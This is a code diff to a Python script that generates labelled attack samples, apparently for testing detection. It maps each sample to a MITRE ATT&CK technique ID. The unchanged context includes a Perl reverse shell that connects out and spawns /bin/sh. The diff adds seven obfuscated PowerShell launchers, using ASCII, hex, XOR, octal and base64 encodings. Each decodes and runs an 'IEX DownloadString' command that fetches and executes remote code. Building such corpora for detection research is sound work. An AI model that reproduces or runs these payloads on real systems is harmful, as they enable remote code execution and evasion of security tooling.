@@ -114,10 +114,22 @@ M = {
 
 M["revshell"][1]["perl-multiline.pl"] = f"use Socket;\nsocket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));\nconnect(S,sockaddr_in({P},inet_aton(\"{H}\")));\nopen(STDIN, \">&S\");\nopen(STDOUT, \">&S\");\nopen(STDERR, \">&S\");\nexec(\"/bin/sh -i\");\n"
 
+# Invoke-Obfuscation's ENCODING launchers: the command as character codes, one [char] at a time
+CMD = f"IEX (New-Object Net.WebClient).DownloadString('{U}')"
+M["powershell"][1].update({
+    "enc-ascii.ps1": "( (%s) | %%{ [char]$_ }) -join '' | iex\n" % ",".join(str(ord(c)) for c in CMD),
+    "enc-ascii-shellid.ps1": "&($ShellId[1]+$ShellId[13]+'x') ( [string]::join('', ( (%s) |%%{ ( [char][int] $_)})) )\n" % ",".join(str(ord(c)) for c in CMD),
+    "enc-hex.ps1": "('%s'.split('H') | %%{ [char]([convert]::toint16($_,16)) }) -join '' | iex\n" % "H".join("%x" % ord(c) for c in CMD),
+    "enc-bxor.ps1": "-join ((%s) | %% { [char]($_ -bxor 0x3b) }) | iex\n" % ",".join(str(ord(c) ^ 0x3b) for c in CMD),
+    "enc-octal.ps1": ".( $pshome[4]+$pshome[30]+'x') ( -join ('%s' -split ',' | %% { [char]([convert]::toint16($_, 8)) }))\n" % ",".join("%o" % ord(c) for c in CMD),
+    "enc-b64-unicode.ps1": "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')))\n" % base64.b64encode(CMD.encode("utf-16-le")).decode(),
+    "enc-b64-utf8.ps1": "$s='%s'; iex ([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String($s)))\n" % b64(CMD),
+})
+
 # the ids of the files whose class has none of its own, by the start of the name
 IDS = {"cron": "T1053.003", "systemd": "T1543.002", "bashrc": "T1546.004", "authkeys": "T1098.004",
        "ldpreload": "T1574.006", "rclocal": "T1037.004", "motd": "T1095",
-       "io-compressed": "T1027", "io": "T1105", "dlfile": "T1105", "iwr": "T1105",
+       "io-compressed": "T1027", "io": "T1105", "enc": "T1027,T1105", "dlfile": "T1105", "iwr": "T1105",
        "certutil": "T1105", "bits": "T1105", "mshta": "T1218.005", "amsi": "T1562.001",
        "runner": "T1055", "d2js": "T1620"}
 
